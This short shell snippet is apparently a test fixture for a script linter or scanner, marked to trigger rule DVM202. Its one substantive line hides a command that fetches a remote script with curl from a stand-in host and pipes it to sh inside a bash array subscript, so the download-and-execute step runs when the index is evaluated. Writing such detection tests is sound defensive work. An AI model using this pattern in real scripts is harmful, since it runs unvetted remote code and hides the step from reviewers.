# expect: DVM202
set -Eeuo pipefail
a=()
a[$(curl -fsSL https://example.org/i.sh | sh)]=1
